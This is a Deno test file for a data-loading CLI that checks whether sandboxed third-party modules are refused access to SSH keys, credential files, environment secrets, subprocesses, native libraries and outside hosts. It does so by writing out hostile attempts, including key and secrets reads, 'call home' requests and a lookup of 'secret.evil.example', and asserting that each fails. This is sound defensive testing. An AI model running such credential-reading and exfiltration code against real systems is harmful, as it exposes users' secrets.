/**
 * A module that somebody else wrote, run by the command: it may talk to its own API and do nothing else.
 * @module
 */
import assert from "assert";
import { join } from "node:path";
import { type Printed, sluiceCommand, withWorkplace, type Workplace } from "../cli_commands.ts";

const CANARY = "canary-0123456789abcdef";

/** An API, and a server elsewhere that nothing may reach. */
async function withServers(
  use: (api: string, elsewhere: string, heard: string[]) => Promise<void>,
): Promise<void> {
  const heard: string[] = [];
  const options = { hostname: "127.0.0.1", port: 0, onListen() {} };
  await using api = Deno.serve(options, ({ url }) => {
    const page = Number(new URL(url).searchParams.get("page") ?? 1);
    return Response.json({ items: [{ id: page }], next: page < 3 ? `/items?page=${page + 1}` : null });
  });
  await using other = Deno.serve(options, async (request) => {
    heard.push(`${request.url} ${await request.text()}`);
    return Response.json([]);
  });
  await use(`http://127.0.0.1:${api.addr.port}`, `http://127.0.0.1:${other.addr.port}`, heard);
}

/** A module that tries something while it is loaded, built and read, and yields how each went. */
function trying(api: string, code: string, more = ""): string {
  return `import { defineSource } from "@sluice/sluice";
${more}
async function attempt() {
  try {
    return "got " + String(await (async () => { ${code} })());
  } catch (error) {
    return "refused " + error.name;
  }
}
const loading = await attempt();
export default defineSource("hostile", {}, async () => {
  const building = await attempt();
  return {
    client: { base_url: "${api}" },
    resources: [{ name: "tried", async *records() { yield [{ loading, building, reading: await attempt() }]; } }],
  };
});`;
}

/** What a module may not do, as code that returns what it got. */
const FORBIDDEN: Record<string, (context: { folder: string; elsewhere: string }) => string> = {
  "read a key": ({ folder }) => `return await Deno.readTextFile("${folder}/.ssh/id_ed25519");`,
  "read a key by Node": ({ folder }) =>
    `return (await import("node:fs")).readFileSync("${folder}/.ssh/id_ed25519");`,
  "read the destination's credentials": ({ folder }) =>
    `return await Deno.readTextFile("${folder}/.dlt/secrets.toml");`,
  "import credentials as text": ({ folder }) =>
    `return (await import("${folder}/" + ".dlt/secrets.toml", { with: { type: "text" } })).default;`,
  "import JSON of another": ({ folder }) =>
    `return JSON.stringify((await import("${folder}/" + "account.json", { with: { type: "json" } })).default);`,
  "fetch a file": ({ folder }) => `return await (await fetch("file://${folder}/.dlt/secrets.toml")).text();`,
  "list a folder": ({ folder }) => `return [...Deno.readDirSync("${folder}")].length;`,
  "read the environment": () => `return Deno.env.get("OTHER_SECRET");`,
  "read the environment by Node": () =>
    `return (await import("node:process")).default.env.OTHER_SECRET.length;`,
  "write a file": ({ folder }) => `await Deno.writeTextFile("${folder}/written", "x"); return "written";`,
  "open a database": ({ folder }) =>
    `const { DatabaseSync } = await import("node:sqlite"); new DatabaseSync("${folder}/hostile.sqlite"); return 1;`,
  "start a program": () => `return (await new Deno.Command("id").output()).code;`,
  "load a library": () => `return Deno.dlopen("libc.so.6", {});`,
  "call home": ({ elsewhere }) => `return (await fetch("${elsewhere}/home")).status;`,
  "call home by a socket": ({ elsewhere }) =>
    `(await Deno.connect({ hostname: "127.0.0.1", port: ${new URL(elsewhere).port} })).close(); return 1;`,
  "call home by Node": ({ elsewhere }) =>
    `return await new Promise(async (done, fail) => (await import("node:http")).get("${elsewhere}/home", done).on("error", fail));`,
  "call home from a worker of its own": ({ elsewhere }) =>
    `const code = "fetch('${elsewhere}/home').then(() => postMessage('got'), () => postMessage(''))";
     const worker = new Worker("data:application/javascript," + encodeURIComponent(code), { type: "module" });
     const said = await new Promise((done) => { worker.onmessage = (event) => done(event.data); worker.onerror = (event) => { event.preventDefault(); done(""); }; });
     worker.terminate();
     if (!said) throw new Deno.errors.NotCapable("no");
     return said;`,
  "give a worker more": () =>
    `new Worker("data:application/javascript,1", { type: "module", deno: { permissions: { read: true } } }); return 1;`,
  "import from elsewhere": ({ elsewhere }) => `return await import("${elsewhere}/" + "code.js");`,
  "listen": () => `Deno.listen({ port: 0 }).close(); return 1;`,
  "look up a name": () => `return await Deno.resolveDns("secret.evil.example", "A");`,
  "learn the machine's name": () => `return Deno.hostname();`,
  "ask for permission": () =>
    `if ((await Deno.permissions.request({ name: "read" })).state !== "granted") throw new Deno.errors.NotCapable("no"); return 1;`,
};

const FILES = {
  ".ssh/id_ed25519": CANARY,
  ".dlt/secrets.toml": `[destination.other.credentials]\npassword = "${CANARY}"\n`,
  "account.json": JSON.stringify({ key: CANARY }),
};

Deno.test("sluice run keeps a module from everything but its own API", async () => {
  await withServers(async (api, elsewhere, heard) => {
    await withWorkplace({ files: FILES, env: { OTHER_SECRET: CANARY } }, async (place) => {
      const all = Object.entries(FORBIDDEN).map(([name, code]) => `
  [${JSON.stringify(name)}]: async () => { ${code({ folder: place.folder, elsewhere })} },`).join("");
      const code = `return JSON.stringify(Object.fromEntries(await Promise.all(Object.entries({${all}
}).map(async ([name, each]) => {
  try { return [name, "got " + await each()]; } catch (error) { return [name, "refused"]; }
}))));`;
      await Deno.writeTextFile(join(place.folder, "hostile.ts"), trying(api, code));
      const { code: exit, out, err } = await place.sluice("run", "./hostile.ts");
      assert.equal(exit, 0, err);
      assert.ok(!`${out}${err}`.includes(CANARY));
      const { out: rows } = await place.sluice(
        "query",
        "SELECT * FROM tried",
        "--database",
        "hostile.sqlite",
        "--format",
        "json",
      );
      const [tried] = JSON.parse(rows);
      for (const phase of ["loading", "building", "reading"]) {
        const results = JSON.parse(tried[phase].replace(/^got /, ""));
        for (const [name, result] of Object.entries(results)) {
          // What is not there is as good as refused.
          assert.match(String(result), /^refused$|^got undefined$/, `${phase}: ${name}`);
        }
        assert.deepEqual(Object.keys(results), Object.keys(FORBIDDEN));
      }
      assert.deepEqual(heard, []);
      assert.ok(!place.has("written") && !place.has("hostile.sqlite-journal"));
    });
  });
});

const refused: [what: string, source: string, message: RegExp][] = [
  [
    "imports credentials as text",
    'import text from "./.dlt/secrets.toml" with { type: "text" };\nexport default [{ name: "x", records: () => [{ text }] }];',
    /Cannot load "\.\/hostile\.ts": it imports ".*secrets\.toml", which is no code below its folder/,
  ],
  [
    "imports data beside it",
    'import data from "./account.json" with { type: "json" };\nexport default [{ name: "x", records: () => [data] }];',
    /it imports ".*account\.json", which is no code.*\n.*\n {2}next: if the module may read it, run with --allow read=/,
  ],
  [
    "takes the name of the destinations",
    'export default { definition: { name: "destination", parameters: { other: { type: "json", help: "" } }, build: () => [] } };',
    /the name "destination" could reach values that are for others/,
  ],
  [
    "has a parameter that leads to others",
    'import { defineSource } from "@sluice/sluice";\nexport default defineSource("x", { "okta.api_token": { type: "text", help: "" } }, () => []);',
    /the parameter "okta\.api_token" could reach/,
  ],
  [
    "wants a variable of the environment that is for others",
    'import { defineSource } from "@sluice/sluice";\nexport default defineSource("x", { other_secret: { type: "text", required: true, help: "" } }, () => []);',
    /Cannot configure source x: 1 value is missing|other_secret/,
  ],
  [
    "wants a table that is for others",
    'import { defineSource } from "@sluice/sluice";\nexport default defineSource("x", { destination: { type: "json", required: true, help: "" } }, () => []);',
    /destination/,
  ],
  [
    "ends its worker",
    'export default [{ name: "x", records() { setTimeout(() => { throw new Error("on purpose"); }, 0); return new Promise(() => {}); } }];',
    /Cannot run "\.\/hostile\.ts": its worker ended, Error: on purpose/,
  ],
  [
    "posts what is no message, and pages for others",
    `export default [{ name: "x", async *records() {
      for (const data of [null, 1, "x", { is: "call" }, { is: "call", id: 1, name: "constructor" }, { is: "answer", id: 99 }]) postMessage(data);
      postMessage({ is: "call", id: 7, name: "append", argument: { is: "object", entries: [["resource", { is: "data", value: "../../up" }]] } });
      throw new Error("done with it");
    } }];`,
    /done with it/,
  ],
];

for (const [what, source, message] of refused) {
  Deno.test(`sluice run stops a module that ${what}`, async () => {
    await withWorkplace(
      { files: { ...FILES, "hostile.ts": source }, env: { OTHER_SECRET: CANARY } },
      async (place) => {
        const { code, out, err } = await place.sluice("run", "./hostile.ts");
        assert.notEqual(code, 0);
        assert.notEqual(code, 70, err);
        assert.match(err, message);
        assert.ok(!`${out}${err}`.includes(CANARY));
      },
    );
  });
}

Deno.test("sluice run can be stopped while a module does not let go", async () => {
  const source = 'export default [{ name: "x", records() { console.log("here"); for (;;); } }];';
  await withWorkplace({ files: { "hostile.ts": source } }, async ({ folder }) => {
    const child = sluiceCommand(["run", "./hostile.ts"], { cwd: folder, stdout: "null", stderr: "piped" })
      .spawn();
    let said = "";
    for await (const text of child.stderr.pipeThrough(new TextDecoderStream())) {
      said += text;
      if (text.includes("here")) child.kill("SIGINT");
    }
    assert.equal((await child.status).code, 130);
    assert.match(said, /Stopped before the load was published/);
  });
});

Deno.test("a module names other origins that it talks to", async () => {
  await withServers(async (api, elsewhere, heard) => {
    const source = (origins: string) =>
      `import { defineSource } from "@sluice/sluice";
export default defineSource("two", {}, () => ({
  client: { base_url: "${api}" },
  resources: [{ name: "second", async *records({ restClient }) {
    const client = restClient({ base_url: "${elsewhere}" });
    yield [{ status: (await client.send(client.request("/asked"))).status }];
  } }],
}), { origins: ${origins} });`;
    const files = {
      "named.ts": source(`["${elsewhere}"]`),
      "unnamed.ts": source("[]"),
      "wrong.ts": source('["files.example"]'),
    };
    await withWorkplace({ files }, async (place) => {
      const unnamed = await place.sluice("run", "./unnamed.ts");
      assert.equal(unnamed.code, 2);
      assert.match(unnamed.err, /may not use the network for this host[\s\S]*--allow net=127/);
      assert.deepEqual(heard, []);
      assert.match(
        (await place.sluice("run", "./wrong.ts")).err,
        /"files\.example" in its origins is no origin/,
      );
      assert.equal((await place.sluice("run", "./named.ts")).code, 0);
      assert.equal(heard.length, 1);
    });
  });
});

Deno.test("--allow widens by name", async () => {
  await withServers(async (api, elsewhere, heard) => {
    const { host } = new URL(elsewhere);
    const code =
      `return [(await fetch("${elsewhere}/asked")).status, Deno.env.get("REGION"), await Deno.readTextFile("more.txt")];`;
    const files = { "hostile.ts": trying(api, code), "more.txt": "more" };
    await withWorkplace({ files, env: { REGION: "eu" } }, async (place) => {
      const run = (...args: string[]): Promise<Printed> => place.sluice("run", "./hostile.ts", ...args);
      assert.equal((await run("--allow", `net=${host},read=./more.txt,env=REGION`)).code, 0);
      assert.equal(await reading(place), "got 200,eu,more");
      assert.ok(heard.length > 0 && heard.every((line) => line.startsWith(`${elsewhere}/asked`)));
      assert.match((await run("--allow", "nett=x")).err, /there is no "nett"\n.*did you mean "net"/);
      assert.match((await run("--allow", "ffi=x")).err, /there is no "ffi"/);
    });
  });
});

async function reading(place: Workplace): Promise<unknown> {
  const { out } = await place.sluice(
    "query",
    "SELECT reading FROM tried",
    "--database",
    "hostile.sqlite",
    "--format",
    "json",
  );
  return JSON.parse(out)[0].reading;
}
